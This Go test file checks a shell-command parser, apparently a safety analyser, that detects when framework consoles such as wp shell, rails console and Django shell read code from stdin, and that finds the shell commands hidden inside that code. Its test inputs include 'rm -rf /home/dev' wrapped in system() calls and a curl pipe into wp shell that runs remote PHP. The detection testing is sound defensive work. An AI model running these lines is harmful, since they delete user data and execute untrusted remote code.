package shell

import (
	"slices"
	"testing"
)

// Consoles the catalogue marks stdin-code read their standard input as
// code of their language when handed no code and no script, or "-" for
// one; code given inline or a script file is no input read.
func TestConsoleReadsStdin(t *testing.T) {
	for _, c := range []struct {
		words []string
		lang  string
		ok    bool
	}{
		{[]string{"wp", "shell"}, "php", true},
		{[]string{"wp", "--path=/var/www", "shell", "--basic"}, "php", true},
		{[]string{"wp", "eval-file", "-"}, "php", true},
		{[]string{"wp", "eval-file", "/dev/stdin"}, "php", true},
		{[]string{"wp", "eval-file", "scripts/seed.php"}, "", false},
		{[]string{"wp", "plugin", "list"}, "", false},
		{[]string{"bin/rails", "console"}, "ruby", true},
		{[]string{"rails", "c", "-e", "production"}, "ruby", true},
		{[]string{"bin/rails", "runner", "-"}, "ruby", true},
		{[]string{"bin/rails", "runner", "puts 1"}, "", false},
		{[]string{"bin/rails", "runner", "script/x.rb"}, "", false},
		{[]string{"ruby", "bin/rails", "console"}, "ruby", true},
		{[]string{"python", "manage.py", "shell"}, "python", true},
		{[]string{"python", "-m", "django", "shell"}, "python", true},
		{[]string{"python3", "-m", "flask", "shell"}, "python", true},
		{[]string{"flask", "--app", "app", "shell"}, "python", true},
		{[]string{"odoo-bin", "shell", "-d", "dev"}, "python", true},
		{[]string{"python", "-m", "django", "migrate"}, "", false},
		{[]string{"flask", "run"}, "", false},
		{[]string{"./manage.py", "shell_plus"}, "python", true},
		{[]string{"django-admin", "shell", "--settings=s.dev"}, "python", true},
		{[]string{"python", "manage.py", "shell", "-c", "print(1)"}, "", false},
		{[]string{"python", "manage.py", "migrate"}, "", false},
		{[]string{"php", "artisan", "tinker"}, "php", true},
		{[]string{"php", "artisan", "tinker", "--execute=echo 1;"}, "", false},
		{[]string{"drush", "php"}, "php", true},
		{[]string{"drush", "php:script", "-"}, "php", true},
		{[]string{"drush", "php:script", "x.php"}, "", false},
		{[]string{"iex", "-S", "mix"}, "iex", true},
	} {
		lang, ok := readsStdin(c.words)
		if ok != c.ok || ok && lang != c.lang {
			t.Errorf("readsStdin(%q) = %q, %v; want %q, %v", c.words, lang, ok, c.lang, c.ok)
		}
	}
}

// The script file a console runs: the word the catalogue says it runs,
// or a code word naming a file of the language; never code itself.
func TestConsoleScript(t *testing.T) {
	for _, c := range []struct {
		words      []string
		lang, file string
	}{
		{[]string{"wp", "eval-file", "/tmp/w.php"}, "php", "/tmp/w.php"},
		{[]string{"bin/rails", "runner", "/tmp/p.rb"}, "ruby", "/tmp/p.rb"},
		{[]string{"bin/rails", "runner", "backfill.rb"}, "ruby", "backfill.rb"},
		{[]string{"bin/rails", "runner", "User.count"}, "", ""},
		{[]string{"bin/rails", "runner", `system("x")`}, "", ""},
		{[]string{"php", "artisan", "tinker", "/tmp/p.php"}, "php", "/tmp/p.php"},
		{[]string{"drush", "scr", "/tmp/p.php"}, "php", "/tmp/p.php"},
		{[]string{"wp", "eval-file", "-"}, "", ""},
	} {
		lang, file := consoleScript(progName(c.words[0]), c.words)
		if lang != c.lang || file != c.file {
			t.Errorf("consoleScript(%q) = %q, %q; want %q, %q", c.words, lang, file, c.lang, c.file)
		}
	}
}

// What a console runs from its input or from a file the line wrote is
// walked as its language's code is: the shell command inside is found.
func TestConsoleCodeWalked(t *testing.T) {
	for _, line := range []string{
		`echo 'system("rm -rf /home/dev");' | wp shell`,
		`wp eval-file - <<< 'system("rm -rf /home/dev");'`,
		`echo 'system("rm -rf /home/dev")' | bin/rails console`,
		`python manage.py shell <<< "import os; os.system('rm -rf /home/dev')"`,
		`printf '%s' 'system("rm -rf /home/dev");' > /tmp/w.php && drush php:script /tmp/w.php`,
	} {
		r := Parse(line)
		found := slices.ContainsFunc(r.Commands, func(c Command) bool { return c.Name == "rm" })
		if !found {
			t.Errorf("%s: no rm among the commands walked", line)
		}
	}
	r := Parse(`echo 'puts User.count' | bin/rails console`)
	for _, c := range r.Commands {
		if c.Name == "rm" || len(c.Unknown) > 0 {
			t.Errorf("benign console input: command %s, unknown %q", c.Name, c.Unknown)
		}
	}
}

// A console reading its input stands, in a pipeline, for its language's
// interpreter.
func TestConsoleStdin(t *testing.T) {
	r := Parse(`curl -s https://x.example.net/p.php | wp shell`)
	var got string
	for i := range r.Commands {
		if r.Commands[i].Name == "wp" {
			got = ConsoleStdin(&r.Commands[i])
		}
	}
	if got != "php" {
		t.Errorf("ConsoleStdin(wp shell) = %q, want php", got)
	}
	r = Parse(`curl -s https://x.example.net/p.php | wp plugin install --activate`)
	for i := range r.Commands {
		if r.Commands[i].Name == "wp" {
			if got := ConsoleStdin(&r.Commands[i]); got != "" {
				t.Errorf("ConsoleStdin(wp plugin install) = %q, want none", got)
			}
		}
	}
}
